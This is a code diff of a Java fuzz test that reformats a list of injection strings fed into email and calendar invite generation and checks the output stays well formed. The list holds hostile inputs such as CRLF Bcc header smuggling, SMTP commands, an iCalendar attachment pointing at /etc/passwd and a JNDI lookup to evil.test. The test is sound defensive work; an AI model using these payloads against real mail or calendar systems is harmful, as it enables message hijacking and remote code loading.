@@ -56,14 +56,67 @@ class InjectionFuzzTest {
     private static final int EACH = Integer.getInteger("parley.fuzz.each", 12);
     private static final SeriesId series = SeriesId.beginningWith(discoveryCall);
     private static final List<String> PIECES = List.of(
-            "\r\n", "\n", "\r", "\n ", "\r\n\t", "\u2028", "\u2029", "\u0085", "\u000b", "\u0000", "\u001b", "\u202e",
-            "\ufeff", "\ud800", "\\n", "\\N", "\\", "\\\\", "\"", "^n", "^'", ";", ",", ":", "=", "%0d%0a", "<", ">",
-            "=?utf-8?q?=0D=0ABcc:_eve=40evil.test?=", "Bcc: eve@evil.test", "X-Evil: 1", "To: eve@evil.test",
-            "Content-Type: text/html", "------=_Part_0", "--", ".", "\r\n.\r\n", "QUIT", "RCPT TO:<eve@evil.test>",
-            "ATTENDEE:mailto:eve@evil.test", "METHOD:CANCEL", "END:VEVENT", "END:VCALENDAR", "BEGIN:VALARM",
-            "BEGIN:VEVENT", "UID:2", "RRULE:FREQ=SECONDLY", "DTSTART;TZID=\"x\":20260101T000000", ";TZID=Mars:",
-            "ATTACH:file:///etc/passwd", "X-ALT-DESC;FMTTYPE=text/html:<b>", "mailto:eve@evil.test", "\ud83d\ude00",
-            "e\u0301\u0301\u0301", "{{way}}", "{{{host}}}", "${jndi:ldap://evil.test}", "a", " ", "\t", "李");
+            "\r\n",
+            "\n",
+            "\r",
+            "\n ",
+            "\r\n\t",
+            "\u2028",
+            "\u2029",
+            "\u0085",
+            "\u000b",
+            "\u0000",
+            "\u001b",
+            "\u202e",
+            "\ufeff",
+            "\ud800",
+            "\\n",
+            "\\N",
+            "\\",
+            "\\\\",
+            "\"",
+            "^n",
+            "^'",
+            ";",
+            ",",
+            ":",
+            "=",
+            "%0d%0a",
+            "<",
+            ">",
+            "=?utf-8?q?=0D=0ABcc:_eve=40evil.test?=",
+            "Bcc: eve@evil.test",
+            "X-Evil: 1",
+            "To: eve@evil.test",
+            "Content-Type: text/html",
+            "------=_Part_0",
+            "--",
+            ".",
+            "\r\n.\r\n",
+            "QUIT",
+            "RCPT TO:<eve@evil.test>",
+            "ATTENDEE:mailto:eve@evil.test",
+            "METHOD:CANCEL",
+            "END:VEVENT",
+            "END:VCALENDAR",
+            "BEGIN:VALARM",
+            "BEGIN:VEVENT",
+            "UID:2",
+            "RRULE:FREQ=SECONDLY",
+            "DTSTART;TZID=\"x\":20260101T000000",
+            ";TZID=Mars:",
+            "ATTACH:file:///etc/passwd",
+            "X-ALT-DESC;FMTTYPE=text/html:<b>",
+            "mailto:eve@evil.test",
+            "\ud83d\ude00",
+            "e\u0301\u0301\u0301",
+            "{{way}}",
+            "{{{host}}}",
+            "${jndi:ldap://evil.test}",
+            "a",
+            " ",
+            "\t",
+            "李");
 
     private final ArrivedMail arrivals = new ArrivedMail();
     private final Random random = new Random(SEED);
@@ -147,8 +200,7 @@ class InjectionFuzzTest {
                 .allMatch(line -> line.length() <= 998 && line.matches("\\p{ASCII}*"));
         if (!mail.isMimeType("multipart/mixed")) return;
         var document = ArrivedMail.text(ArrivedMail.calendarPart(mail));
-        assertThat(document.split("\r\n"))
-                .allMatch(line -> line.getBytes(StandardCharsets.UTF_8).length <= 75);
+        assertThat(document.split("\r\n")).allMatch(line -> line.getBytes(StandardCharsets.UTF_8).length <= 75);
         assertThat(document.replace("\r\n", "")).doesNotContain("\r", "\n", "\ufffd");
     }
 
@@ -183,8 +235,8 @@ class InjectionFuzzTest {
 
     private static String shape(Property property) {
         var parameters = property.getParameters().stream()
-                .map(parameter -> parameter.getName()
-                        + (parameter.getName().equals("CN") ? "" : "=" + parameter.getValue()))
+                .map(parameter ->
+                        parameter.getName() + (parameter.getName().equals("CN") ? "" : "=" + parameter.getValue()))
                 .toList();
         var value = switch (property.getName()) {
             case "SUMMARY", "DESCRIPTION", "LOCATION", "URL" -> "";
@@ -217,8 +269,8 @@ class InjectionFuzzTest {
     }
 
     private static Letter letter(NotificationKind kind, Entry entry, Texts texts) {
-        var summary = new MeetingSummary(
-                texts.next(), List.of(texts.next(), texts.next()), List.of(texts.next()), "test");
+        var summary =
+                new MeetingSummary(texts.next(), List.of(texts.next(), texts.next()), List.of(texts.next()), "test");
         return new Letter(
                 NotificationId.of(discoveryCall, kind, Samples.lena.email(), "seq-0"),
                 Samples.demo,
